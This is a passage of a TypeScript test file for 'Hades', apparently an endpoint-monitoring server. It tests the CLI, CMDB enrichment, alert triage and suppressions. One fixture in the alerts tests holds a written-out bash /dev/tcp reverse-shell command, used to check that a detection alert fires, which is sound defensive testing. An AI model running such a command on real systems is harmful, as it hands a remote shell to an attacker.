    assert.match(missing.stderr, /HADES_ERR_CONFIG_READ/);
  });

  it('hades agents groups moves an agent and pushes the configuration of the first of its groups that has one', async () => {
    const identity = await server.enrollAgent();
    await server.ok('PUT', '/api/v1/groups/cli-db/config', { body: { yaml: 'agent: { heartbeat_s: 31 }\n' } });
    await server.ok('PUT', '/api/v1/groups/cli-cache/config', { body: { yaml: 'agent: { heartbeat_s: 32 }\n' } });
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello(hostname);
      await stream.welcome();
      await waitUntil('the agent online', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).online === true || undefined);
      const moved = await hades('agents', 'groups', identity.agentId, 'cli-db', 'cli-cache');
      assert.equal(moved.status, 0, moved.stderr);
      assert.equal(moved.stdout, `agent ${identity.agentId} is in cli-db, cli-cache; it runs the configuration of group cli-db (version 1)\n`);
      assert.equal((await stream.next((m) => m.config !== undefined && m.config.yaml !== '')).config?.yaml, 'agent: { heartbeat_s: 31 }\n');
      // A change to the second group's configuration does not reach it: the first one's applies.
      assert.deepEqual(await server.ok('PUT', '/api/v1/groups/cli-cache/config', { body: { yaml: 'agent: { heartbeat_s: 33 }\n' } }), { version: 2, pushed: 0 });
      // The first group's configuration removed: the second one's applies now.
      const unset = await hades('groups', 'unset', 'cli-db');
      assert.equal(unset.status, 0, unset.stderr);
      assert.match(unset.stdout, /^group cli-db: configuration removed; 1 connected agent went back/);
      assert.ok(await stream.next((m) => m.config?.yaml === 'agent: { heartbeat_s: 33 }\n'));
      // Moved to a group with no configuration: the agent is told its own file applies.
      const home = await hades('agents', 'groups', identity.agentId, 'cli-none');
      assert.equal(home.status, 0, home.stderr);
      assert.match(home.stdout, /it runs its own configuration file \(none of its groups has a configuration\)\n$/);
      const own = await stream.next((m) => !!m.own_config);
      assert.equal(own.config ?? null, null, 'a message of its own, not an empty configuration (which an older agent would apply)');
      const again = await hades('groups', 'unset', 'cli-db');
      assert.equal(again.status, 2);
      assert.match(again.stderr, /HADES_ERR_API_NOT_FOUND: no configuration for group 'cli-db'/);
    } finally {
      stream.close();
    }
    assert.deepEqual((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).groups, ['cli-none']);
    const none = await hades('agents', 'groups', identity.agentId);
    assert.equal(none.status, 2);
    assert.match(none.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT/);
    const unknown = await hades('agents', 'groups', 'ag_0000000000000000', 'web');
    assert.equal(unknown.status, 2);
    assert.match(unknown.stderr, /HADES_ERR_API_NOT_FOUND: no agent 'ag_0000000000000000'/);
    const reader = await apiToken('read-only', 'groups-reader');
    const forbidden = await hades('agents', 'groups', identity.agentId, 'web', '--token', reader.token);
    assert.equal(forbidden.status, 2);
    assert.match(forbidden.stderr, /HADES_ERR_API_FORBIDDEN/);
    assertError(await server.api('PUT', `/api/v1/agents/${identity.agentId}/groups`, { body: { groups: [] } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'no group');
    assertError(await server.api('PUT', `/api/v1/agents/${identity.agentId}/groups`, { body: { groups: ['a', 'a'] } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'a group twice');
    assertError(await server.api('PUT', `/api/v1/agents/${identity.agentId}/groups`, { body: { groups: ['no/slash'] } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'a bad name');
  });

  it('hades server on an address in use: one coded line, nothing left listening', async () => {
    const [free] = await freePorts(1);
    const busyApi = path.join(dir, 'server-busy-api.yaml');
    writeFileSync(busyApi, serverConfigText(path.join(dir, 'busy-a'), { agents: `127.0.0.1:${free}`, api: server.addresses.api.replace(/^https:\/\//, '') }));
    const api = await runHades(['server', '--config', busyApi]);
    assert.equal(api.status, 3, api.stderr);
    const apiLines = api.stderr.split('\n').filter((l) => l !== '' && !l.startsWith('{'));
    assert.deepEqual(apiLines.length, 1, api.stderr);
    assert.match(apiLines[0]!, /^hades: HADES_ERR_SERVER_LISTEN: the API cannot listen on 127\.0\.0\.1:\d+: the port is in use$/);
    const busyGateway = path.join(dir, 'server-busy-gateway.yaml');
    writeFileSync(busyGateway, serverConfigText(path.join(dir, 'busy-g'), { agents: server.addresses.gateway, api: `127.0.0.1:${free}` }));
    const gateway = await runHades(['server', '--config', busyGateway]);
    assert.equal(gateway.status, 3, gateway.stderr);
    const gatewayLines = gateway.stderr.split('\n').filter((l) => l !== '' && !l.startsWith('{'));
    assert.equal(gatewayLines.length, 1, `no stray gRPC line: ${gateway.stderr}`);
    assert.match(gatewayLines[0]!, /^hades: HADES_ERR_SERVER_LISTEN: the agent gateway cannot listen on 127\.0\.0\.1:\d+: the port is in use/);
  });

  it('--server of another deployment: its CA with --ca (or HADES_API_CA); without it, a TLS refusal that says what to pass', async () => {
    const elsewhere = path.join(dir, 'server-elsewhere.yaml');
    writeFileSync(elsewhere, serverConfigText(path.join(dir, 'no-local-deployment'), { agents: '127.0.0.1:1', api: '127.0.0.1:1' }));
    const remote = ['agents', 'list', '--json', '--config', elsewhere, '--server', server.addresses.api, '--token', server.adminToken];
    const untrusted = await runHades(remote);
    assert.equal(untrusted.status, 3, untrusted.stderr);
    assert.match(untrusted.stderr, /HADES_ERR_SERVER_UNREACHABLE: .*pass --ca with that deployment's CA certificate/);
    const ca = path.join(server.dataDir, 'pki', 'ca.pem');
    const trusted = await runHades([...remote, '--ca', ca]);
    assert.equal(trusted.status, 0, trusted.stderr);
    assert.ok(trusted.stdout.includes('"hostname"'));
    const fromEnv = await runHades(remote, { env: { ...process.env, HADES_API_CA: ca } });
    assert.equal(fromEnv.status, 0, fromEnv.stderr);
    const notPem = await runHades([...remote, '--ca', elsewhere]);
    assert.equal(notPem.status, 2, notPem.stderr);
    assert.match(notPem.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: --ca: .* holds no PEM certificate/);
    // The answer of GET /api/v1/enroll/ca saved as it comes (JSON) is taken for its PEM.
    const answer = path.join(dir, 'enroll-ca.json');
    writeFileSync(answer, JSON.stringify(await server.ok('GET', '/api/v1/enroll/ca')));
    const fromAnswer = await runHades([...remote, '--ca', answer]);
    assert.equal(fromAnswer.status, 0, fromAnswer.stderr);
    // JSON without a PEM in it is refused like any other file without one.
    writeFileSync(answer, JSON.stringify({ ca: 'x -----BEGIN CERTIFICATE----- y' }));
    assert.match((await runHades([...remote, '--ca', answer])).stderr, /holds no PEM certificate/);
  });

  it('--server without --token is refused: the local deployment\'s admin token is never sent to another server', async () => {
    // This deployment (configFile, with its admin token) and another one, trusted with --ca.
    const other = await TestServer.start({ dataDir: path.join(dir, 'other-deployment') });
    try {
      const otherCa = path.join(other.dataDir, 'pki', 'ca.pem');
      const { tokens } = (await server.ok('GET', '/api/v1/tokens/api')) as { tokens: AnyEvent[] };
      const local = tokens.find((t) => server.adminToken.includes(`_${String(t['id'])}_`));
      assert.ok(local, 'the local admin token is listed');
      const result = await runHades(['agents', 'list', '--config', configFile, '--server', other.addresses.api, '--ca', otherCa], { env: { ...process.env, HADES_API_TOKEN: '' } });
      assert.equal(result.status, 2, result.stderr);
      assert.match(result.stderr, /^hades: HADES_ERR_CLI_MISSING_ARGUMENT: --server .*--token/);
      assert.ok(!result.stderr.includes(String(local['id'])), `the other server saw the local admin token: ${result.stderr}`);
      // With a token of its own, the other server answers.
      const own = await runHades(['agents', 'list', '--json', '--config', configFile, '--server', other.addresses.api, '--ca', otherCa, '--token', other.adminToken]);
      assert.equal(own.status, 0, own.stderr);
      // The CA given through a pipe (`--ca <(cat ca.pem)`): a person's own argument is read whatever it is.
      const piped = await runProcess('bash', ['-c', `exec "$0" "$1" agents list --json --config "$2" --server "$3" --token "$4" --ca <(cat "$5")`, process.execPath, `${projectRoot}bin/hades.js`, configFile, other.addresses.api, other.adminToken, otherCa]);
      assert.equal(piped.status, 0, piped.stderr);
    } finally {
      await other.stop();
    }
  });

  it('a --server that is not an https URL is a user error, not an internal one', async () => {
    for (const url of ['http://127.0.0.1:7080', 'notaurl', 'ftp://x']) {
      const result = await hades('agents', 'list', '--server', url, '--token', 'x');
      assert.equal(result.status, 2, `${url}: ${result.stderr}`);
      assert.match(result.stderr, /^hades: HADES_ERR_CLI_INVALID_ARGUMENT: --server must be/);
    }
  });

  it('an API token that cannot be a header value (a pasted newline, non-ASCII) is a user error', async () => {
    for (const token of ['a\nb', 'hé€', 'two words']) {
      const result = await hades('agents', 'list', '--token', token);
      assert.equal(result.status, 2, `${JSON.stringify(token)}: ${result.stderr}`);
      assert.match(result.stderr, /^hades: HADES_ERR_CLI_INVALID_ARGUMENT: the API token \(--token\) holds a space/);
    }
  });

  it('hades tokens create, list and revoke: API tokens for people and scripts, with a lifetime if wanted', async () => {
    const created = await hades('tokens', 'create', 'ci-bot', '--role', 'analyst', '--ttl', '1h', '--json');
    assert.equal(created.status, 0, created.stderr);
    const token = JSON.parse(created.stdout) as AnyEvent;
    assert.match(token['token'], /^hadesapi_/);
    const expires = Date.parse(token['expires_at']) - Date.now();
    assert.ok(expires > 59 * 60_000 && expires <= 3_600_000, `${expires} ms`);
    const listed = await hades('tokens', 'list', '--json');
    const row = listed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent).find((t) => t['id'] === token['id']);
    assert.deepEqual([row?.['name'], row?.['role'], row?.['expires_at']], ['ci-bot', 'analyst', token['expires_at']]);
    assert.ok(!listed.stdout.includes(token['token']), 'never the secret');
    assert.equal((await hades('agents', 'list', '--token', token['token'])).status, 0, 'the token works');
    const revoked = await hades('tokens', 'revoke', token['id']);
    assert.equal(revoked.status, 0, revoked.stderr);
    const refused = await hades('agents', 'list', '--token', token['token']);
    assert.match(refused.stderr, /HADES_ERR_API_UNAUTHENTICATED: .*revoked/);
    for (const [args, code] of [
      [['tokens', 'create', 'x'], 'HADES_ERR_CLI_MISSING_ARGUMENT'],
      [['tokens', 'create', 'x', '--role', 'boss'], 'HADES_ERR_CLI_INVALID_ARGUMENT'],
      [['tokens', 'create', 'x', '--role', 'analyst', '--ttl', '5s'], 'HADES_ERR_API_INVALID_REQUEST'],
      [['tokens', 'revoke', 'nope'], 'HADES_ERR_API_NOT_FOUND'],
    ] as const) {
      const result = await hades(...args);
      assert.equal(result.status, 2, `${args.join(' ')}: ${result.stderr}`);
      assert.match(result.stderr, new RegExp(code), args.join(' '));
    }
  });

  it('hades agents tags and revoke', async () => {
    const identity = await server.enrollAgent();
    const tagged = await hades('agents', 'tags', identity.agentId, 'owner=team-b', 'tier=gold=1');
    assert.equal(tagged.status, 0, tagged.stderr);
    assert.deepEqual((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).tags, { owner: 'team-b', tier: 'gold=1' });
    const badTag = await hades('agents', 'tags', identity.agentId, 'no-equals');
    assert.equal(badTag.status, 2);
    assert.match(badTag.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: a tag is KEY=VALUE/);
    const revoked = await hades('agents', 'revoke', identity.agentId);
    assert.equal(revoked.status, 0, revoked.stderr);
    assert.match(revoked.stdout, /is revoked/);
    // A new token alone is not used while the agent keeps its identity: the hint says what to move.
    assert.match(revoked.stdout, /move identity\/ out of its data folder and start it with a new token/);
    assert.ok((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).revoked_at);
    // Twice: nothing changes, and the audit log says it once.
    const again = await hades('agents', 'revoke', identity.agentId);
    assert.equal(again.status, 0, again.stderr);
    assert.match(again.stdout, /was revoked already: nothing changed/);
    assert.deepEqual(await server.ok('POST', `/api/v1/agents/${identity.agentId}/revoke`), { ok: true, already: true });
    // Moved to a group, a revoked agent is not promised the configuration at its next connection.
    const moved = await hades('agents', 'groups', identity.agentId, 'cli-revoked');
    assert.equal(moved.status, 0, moved.stderr);
    assert.match(moved.stdout, /it is revoked: it will not connect again/);
    assert.doesNotMatch(moved.stdout, /from when it next connects/);
    const audit = (await server.ok('GET', '/api/v1/audit', { query: { limit: 1000 } })) as { entries: AnyEvent[] };
    assert.equal(audit.entries.filter((e) => e['action'] === 'agent.revoke' && e['target'] === identity.agentId).length, 1);
    const unknown = await hades('agents', 'revoke', 'ag_0000000000000000');
    assert.equal(unknown.status, 2);
    assert.match(unknown.stderr, /HADES_ERR_API_NOT_FOUND/);
  });

  it('hades tasks create, list and show; --wait prints the result the agent sends', async () => {
    const identity = await server.enrollAgent({ group: 'cli-tasks' });
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello(hostname);
      await stream.welcome();
      await waitUntil('the agent online', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).online === true || undefined);
      const waiting = hades('tasks', 'create', 'query', 'sql=SELECT 1', 'max_rows:=5', '--group', 'cli-tasks', '--wait', '--json', '--timeout', '30');
      const sent = await stream.next((m) => m.task !== undefined);
      assert.deepEqual(JSON.parse(sent.task?.params_json ?? 'null'), { sql: 'SELECT 1', max_rows: 5, timeout_ms: 30_000 });
      stream.write({ task_result: { task_id: sent.task!.task_id, status: 'done', result_json: JSON.stringify({ rows: [{ one: 1 }] }) } });
      const done = await waiting;
      assert.equal(done.status, 0, done.stderr);
      const task = JSON.parse(done.stdout) as AnyEvent;
      assert.equal(task['status'], 'done');
      assert.deepEqual(task['result'], { rows: [{ one: 1 }] });
      const shown = await hades('tasks', 'show', task['id']);
      assert.equal(shown.status, 0, shown.stderr);
      assert.match(shown.stdout, /^status: +done$/m);
      const listed = await hades('tasks', 'list', '--agent', identity.agentId, '--json');
      assert.deepEqual(listed.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as AnyEvent)['id']), [task['id']]);
      // For a person, a query's answer is a table of its rows.
      const text = await hades('tasks', 'list', '--agent', identity.agentId);
      assert.equal(text.status, 0, text.stderr);
      assert.equal(text.stdout, `agent ${identity.agentId}, task ${task['id']} (query, done, created ${task['created_at']}): 1 row\none\n---\n1\n`);
    } finally {
      stream.close();
    }
    // --agent takes one id each time (or ids separated by commas): the words after it are the
    // command's own, wherever it is written.
    const before = await hades('tasks', 'create', '--agent', identity.agentId, 'log_level', 'level=info', '--json');
    assert.equal(before.status, 0, before.stderr);
    assert.equal((JSON.parse(before.stdout) as AnyEvent)['kind'], 'log_level');
    const twice = await hades('tasks', 'create', 'log_level', 'level=info', '--agent', `${identity.agentId},${identity.agentId}`, '--json');
    assert.equal(twice.status, 0, twice.stderr);
    // Offline, a task waits; --wait gives up at the timeout with status 3.
    const pending = await hades('tasks', 'create', 'log_level', 'level=debug', '--agent', identity.agentId, '--wait', '--timeout', '1');
    assert.equal(pending.status, 3, pending.stderr);
    assert.match(pending.stdout, /log_level +expired/, 'read after its deadline, the task is expired');
    assert.match(pending.stderr, /^hades: HADES_ERR_TASK_NOT_DONE: 0 of 1 task\(s\) done, 0 failed, 1 expired, 0 still waiting/m);
    for (const [args, code] of [
      [['tasks', 'create', 'reboot', '--agent', identity.agentId], 'HADES_ERR_CLI_INVALID_ARGUMENT'],
      [['tasks', 'create', 'log_level', 'level'], 'HADES_ERR_CLI_INVALID_ARGUMENT'],
      [['tasks', 'create', 'log_level', 'level=verbose', '--agent', identity.agentId], 'HADES_ERR_API_INVALID_REQUEST'],
      [['tasks', 'create', 'query', 'max_rows:=x', '--agent', identity.agentId], 'HADES_ERR_CLI_INVALID_ARGUMENT'],
      [['tasks', 'create', 'log_level', 'level=debug'], 'HADES_ERR_CLI_MISSING_ARGUMENT'],
      [['tasks', 'create', 'log_level', 'level=debug', '--group', 'no-such-group'], 'HADES_ERR_API_NOT_FOUND'],
      [['tasks', 'show', 'tk_0000000000000000'], 'HADES_ERR_API_NOT_FOUND'],
    ] as const) {
      const result = await hades(...args);
      assert.equal(result.status, 2, `${args.join(' ')}: ${result.stderr}`);
      assert.match(result.stderr, new RegExp(code), args.join(' '));
    }
  });
});

describe('CMDB enrichment', () => {
  it('finds a host by the name its agent enrolled with, not the name its hello and events give', { timeout: 30_000 }, async () => {
    // Enrolled as this host (team-a in the file); its stream then says it is other-host (team-z).
    const identity = await server.enrollAgent();
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello('other-host');
      await stream.welcome();
      const ack = await stream.batch(ndjson(makeEvents(1, { prefix: 'cmdb-claim', host: 'other-host' })), 1, 1);
      assert.equal(ack.ack?.stored, 1, JSON.stringify(ack));
    } finally {
      stream.close();
    }
    const [stored] = await server.searchAll({ agent: identity.agentId, filter: 'event.id^=cmdb-claim-' });
    assert.equal(stored?.['hades']?.cmdb?.owner, 'team-a', 'the enrolled host\'s row, not the claimed one\'s');
    const agent = await server.ok('GET', `/api/v1/agents/${identity.agentId}`);
    assert.equal(agent.hostname, 'other-host', 'the hello\'s name is shown as the agent said it');
    assert.equal(agent.cmdb?.owner, 'team-a');
  });

  it('adds the host\'s CMDB row to its stored events, follows changes of the file, and keeps the last good content when it breaks', { timeout: 30_000 }, async () => {
    const identity = await server.enrollAgent();
    const ownerOf = async (prefix: string) => {
      const events = makeEvents(2, { prefix });
      await deliver(identity, events);
      const stored = await server.searchAll({ agent: identity.agentId, filter: `event.id^=${prefix}-` });
      assert.equal(stored.length, 2);
      return stored.map((e) => e['hades']?.cmdb as AnyEvent | undefined);
    };
    const first = await ownerOf('cmdb-a');
    assert.deepEqual(first[0], { owner: 'team-a', environment: 'production', tags: { rack: 'r1', 'cost center': 'cc-42' } });
    assert.deepEqual(first[1], first[0]);
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).cmdb.owner, 'team-a');
    const byOwner = await server.searchAll({ agent: identity.agentId, filter: 'hades.cmdb.owner=team-a' });
    assert.ok(byOwner.length >= 2, 'searchable by owner');
    // A tag by its column's name, as the file gives it.
    const byTag = await server.searchAll({ agent: identity.agentId, filter: 'hades.cmdb.tags.cost center=cc-42' });
    assert.equal(byTag.length, byOwner.length, 'searchable by a tag whose name has a space');

    writeFileSync(cmdbFile, `hostname,owner,environment\n${hostname.toUpperCase()},team-b,production\n`);
    await waitUntil('the new CMDB', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).cmdb?.owner === 'team-b' || undefined, 10_000, 200);
    assert.equal((await ownerOf('cmdb-b'))[0]?.['owner'], 'team-b');
    // Stored events keep what they were stored with.
    assert.equal((await server.searchAll({ agent: identity.agentId, filter: 'event.id^=cmdb-a-' }))[0]!['hades'].cmdb.owner, 'team-a');

    const errorsBefore = server.log.lines().filter((l) => l['code'] === 'HADES_ERR_CMDB').length;
    writeFileSync(cmdbFile, `hostname,owner\n"${hostname},broken\n`);
    await waitUntil('the CMDB error in the log', () => server.log.lines().filter((l) => l['code'] === 'HADES_ERR_CMDB').length > errorsBefore || undefined, 10_000, 200);
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).cmdb.owner, 'team-b', 'the last good content stays');
    assert.equal((await ownerOf('cmdb-c'))[0]?.['owner'], 'team-b');

    // A JSON file works too, once fixed.
    writeFileSync(cmdbFile, JSON.stringify([{ hostname, owner: 'team-c', business_unit: 'payments' }]));
    await waitUntil('the fixed CMDB', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).cmdb?.owner === 'team-c' || undefined, 10_000, 200);
    assert.deepEqual((await ownerOf('cmdb-d'))[0], { owner: 'team-c', business_unit: 'payments' });
  });

  it('does not store CMDB metadata an agent claims for itself', async () => {
    const identity = await server.enrollAgent();
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      // A host the CMDB does not know.
      stream.hello('host-not-in-the-cmdb');
      await stream.welcome();
      const events = makeEvents(1, { prefix: 'forged', extra: (e) => (e['hades'].cmdb = { owner: 'forged-owner', environment: 'production' }) });
      const ack = await stream.batch(ndjson(events), 1, 1);
      assert.equal(ack.ack?.stored, 1);
    } finally {
      stream.close();
    }
    const stored = await server.searchAll({ agent: identity.agentId });
    assert.equal(stored.length, 1);
    assert.notEqual(stored[0]!['hades'].cmdb?.owner, 'forged-owner');
  });
});

describe('alerts through the API and the hades command', () => {
  let configFile: string;
  let alertId: string;
  const marker = `198.51.100.${1 + Math.floor(Math.random() * 200)}`;
  before(async () => {
    configFile = path.join(dir, 'server-alerts.yaml');
    server.writeCliConfig(configFile);
    const identity = await server.enrollAgent();
    const shell = `bash -i >& /dev/tcp/${marker}/4444 0>&1`;
    const events = makeEvents(2, {
      action: 'exec',
      prefix: 'alerts',
      host: hostname,
      extra: (event, i) => {
        const args = i === 0 ? ['bash', '-c', shell] : ['curl', '-sS', '-H', 'Authorization: Bearer hadesapi_0123456789abcdef_NotARealSecretButLongEnough', 'https://127.0.0.1:7080/api/v1/agents'];
        event['process'] = { ...event['process'], name: args[0], executable: `/usr/bin/${args[0]}`, args, args_count: args.length, command_line: args.join(' ') };
      },
    });
    await deliver(identity, events);
    const found = await waitUntil('the reverse shell alert', async () => {
      const page = (await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', limit: 1000 } })) as { alerts: AnyEvent[] };
      return page.alerts.find((a) => JSON.stringify(a).includes(`/dev/tcp/${marker}/4444`));
    });
    alertId = found['id'];
  });

  it('raises the alert with its rule, severity, host, CMDB context, process and event', async () => {
    const alert = (await server.ok('GET', `/api/v1/alerts/${alertId}`)) as AnyEvent;
    assert.ok(['high', 'critical'].includes(alert['rule'].severity), alert['rule'].severity);
    assert.equal(alert['host'].name, hostname);
    assert.equal(typeof alert['host'].cmdb.owner, 'string', 'the CMDB context of the host');
    assert.equal(alert['process'].name, 'bash');
    assert.equal(alert['events'].length, 1);
    assert.equal(alert['status'], 'new');
    assert.deepEqual(alert['comments'], []);
  });

  it('takes a host by its agent id as well as by its name, in alert and event searches', async () => {
    const alert = (await server.ok('GET', `/api/v1/alerts/${alertId}`)) as AnyEvent;
    const agentId = alert['host'].id as string;
    assert.match(agentId, /^ag_/);
    const byId = (await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', host: agentId } })) as { alerts: AnyEvent[] };
    assert.ok(byId.alerts.some((a) => a['id'] === alertId));
    assert.ok(byId.alerts.every((a) => a['host'].id === agentId));
    const events = (await server.ok('GET', '/api/v1/events', { query: { since: '10m', host: agentId } })) as { events: AnyEvent[] };
    assert.ok(events.events.length >= 1 && events.events.every((e) => e['agent'].id === agentId));
  });

  it('stores no secret from a command line: Hades tokens keep their id, bearer values go', async () => {
    const page = (await server.ok('GET', '/api/v1/events', { query: { since: '10m', filter: 'process.executable=/usr/bin/curl', limit: 100 } })) as { events: AnyEvent[] };
    const line = page.events.map((e) => e['process'].command_line as string).find((l) => l.includes('hadesapi_0123456789abcdef_'));
    assert.ok(line, 'the curl event is stored');
    assert.ok(!line.includes('NotARealSecret'), line);
    assert.match(line, /hadesapi_0123456789abcdef_\[redacted\]/);
  });

  it('triages: an analyst acknowledges, assigns and comments; a read-only token cannot', async () => {
    const analyst = await apiToken('analyst', 'triage');
    const reader = await apiToken('read-only', 'triage-reader');
    assertError(await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: reader.token, body: { status: 'acknowledged' } }), 403, 'HADES_ERR_API_FORBIDDEN');
    const updated = (await server.ok('PATCH', `/api/v1/alerts/${alertId}`, { token: analyst.token, body: { status: 'acknowledged', assignee: 'ana' } })) as AnyEvent;
    assert.equal(updated['status'], 'acknowledged');
    assert.equal(updated['assignee'], 'ana');
    const comment = await server.api('POST', `/api/v1/alerts/${alertId}/comments`, { token: analyst.token, body: { text: 'looking into it' } });
    assert.equal(comment.status, 201, `a comment is created: HTTP ${comment.status} ${comment.text}`);
    assert.equal(comment.body.text, 'looking into it');
    const alert = (await server.ok('GET', `/api/v1/alerts/${alertId}`)) as AnyEvent;
    assert.equal(alert['comments'][0].text, 'looking into it');
    assert.equal(alert['comments'][0].author, 'triage');
    const listed = (await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', status: 'acknowledged' } })) as { alerts: AnyEvent[] };
    assert.ok(listed.alerts.some((a) => a['id'] === alertId));
  });

  it('refuses bad triage, search and suppression requests with coded errors', async () => {
    const bad: [string, string, Parameters<TestServer['api']>[2], number, string][] = [
      ['PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'closed' } }, 400, 'an unknown status'],
      ['PATCH', `/api/v1/alerts/${alertId}`, { body: {} }, 400, 'an empty change'],
      ['PATCH', `/api/v1/alerts/${alertId}`, { body: { assignee: '   ' } }, 400, 'a blank assignee'],
      ['PATCH', `/api/v1/alerts/${alertId}`, { body: { assignee: 'ana\n2026-11-30 resolved by admin' } }, 400, 'an assignee on two lines'],
      ['POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: '   ' } }, 400, 'a blank comment'],
      ['POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: '\u00e9'.repeat(8193) } }, 400, 'a comment of 16,386 bytes in 8,193 characters'],
      ['POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: 'x'.repeat(16_385) } }, 400, 'a comment of 16,385 characters'],
      ['GET', '/api/v1/alerts', { query: { status: 'closed' } }, 400, 'an unknown status filter'],
      ['GET', '/api/v1/alerts', { query: { cursor: 'garbage' } }, 400, 'a bad cursor'],
      ['GET', '/api/v1/alerts', { query: { severity: 'urgent' } }, 400, 'an unknown severity'],
      ['PATCH', '/api/v1/alerts/nope', { body: { status: 'resolved' } }, 404, 'an unknown alert'],
      ['POST', '/api/v1/suppressions', { body: { rule: 'reverse_shel_dev_tcp', for: '1h', reason: 'x' } }, 400, 'an unknown rule'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'process.exe', value: 'x', for: '1h', reason: 'x' } }, 400, 'an unknown field'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'hades.ancestors.name', value: 'nginx', for: '1h', reason: 'x' } }, 400, 'a field inside a list of objects'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'process.parent', value: 'x', for: '1h', reason: 'x' } }, 400, 'an object field'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'process.name', for: '1h', reason: 'x' } }, 400, 'a field without a value'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', for: '400d', reason: 'x' } }, 400, 'too long'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', for: '1h' } }, 400, 'no reason'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'destination.port', value: 'abc', for: '1h', reason: 'x' } }, 400, 'a port that is not a number'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', host: '\n\u0000', for: '1h', reason: 'x' } }, 400, 'a host of control characters'],
      ['POST', '/api/v1/suppressions', { body: { rule: '*', for: '1h', reason: ' \u0000' } }, 400, 'a reason that is a NUL'],
      ['DELETE', '/api/v1/suppressions/nope', {}, 404, 'an unknown suppression'],
    ];
    for (const [method, route, call, status, what] of bad) {
      assertError(await server.api(method, route, call), status, status === 404 ? 'HADES_ERR_API_NOT_FOUND' : 'HADES_ERR_API_INVALID_REQUEST', what);
    }
  });

  it('says in one line which values a field takes', async () => {
    const response = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'closed' } });
    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST');
    assert.equal(response.body.message, 'body/status must be one of: new, acknowledged, resolved, false_positive');
    const severity = await server.api('GET', '/api/v1/alerts', { query: { severity: 'urgent' } });
    assert.equal(severity.body.message, 'querystring/severity must be one of: info, low, medium, high, critical');
    // A key the body does not take is named, with the closest and the ones it does.
    const extra = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'new', asignee: 'ana' } });
    assertError(extra, 400, 'HADES_ERR_API_INVALID_REQUEST');
    assert.equal(extra.body.message, "body has no field 'asignee'; did you mean 'assignee'? (its fields: status, assignee)");
    const query = await server.api('GET', '/api/v1/alerts', { query: { severty: 'high' } });
    assert.match(query.body.message, /^querystring has no field 'severty'; did you mean 'severity'\? \(its fields: /);
    // The misspelt key is named before the required one it stands for is said to be missing.
    const task = await server.api('POST', '/api/v1/tasks', { body: { kind: 'query', agent: 'ag_x', params: { sql: 'select 1' } } });
    assert.match(task.body.message, /^body has no field 'agent'; did you mean 'agents'\?/);
    const empty = await server.api('POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: '' } });
    assert.equal(empty.body.message, 'body/text must not be empty');
    const ttl = await server.api('POST', '/api/v1/tokens/enrollment', { body: { ttl: 'soon' } });
    assert.match(ttl.body.message, /^body\/ttl must match pattern .* \(How long the token can be used: 30m, 1h, 7d/);
  });

  it('suppresses by rule, host and field, lists and lifts suppressions, and audits them', async () => {
    const host = await quietAgent();
    const created = (await server.ok('POST', '/api/v1/suppressions', { body: { rule: '*', host, field: 'process.name', value: 'bash', for: '1h', reason: 'load test' } })) as AnyEvent;
    const listed = (await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] };
    assert.ok(listed.suppressions.some((s) => s['id'] === created['id'] && s['reason'] === 'load test'));
    await server.ok('DELETE', `/api/v1/suppressions/${created['id']}`);
    const audit = (await server.ok('GET', '/api/v1/audit', { query: { limit: 50 } })) as { entries: AnyEvent[] };
    const entry = audit.entries.find((e) => e['action'] === 'suppression.create' && e['target'] === created['id']);
    assert.equal(entry?.['details']?.reason, 'load test');
    const lifted = audit.entries.find((e) => e['action'] === 'suppression.delete' && e['target'] === created['id']);
    assert.deepEqual([lifted?.['details']?.rule, lifted?.['details']?.host, lifted?.['details']?.reason], ['*', host, 'load test'], 'what was lifted is kept in the audit log');
  });

  it('lets an analyst make narrow, short suppressions only: every rule, a whole rule everywhere or more than 30 days need an admin (refusals audited)', async () => {
    const { token } = await apiToken('analyst', 'suppressing-analyst');
    const host = await quietAgent();
    const suppress = (body: Record<string, string>, as: string | undefined = token) => server.api('POST', '/api/v1/suppressions', { ...(as === undefined ? {} : { token: as }), body: { for: '1h', reason: 'noise', ...body } });
    for (const [body, what] of [
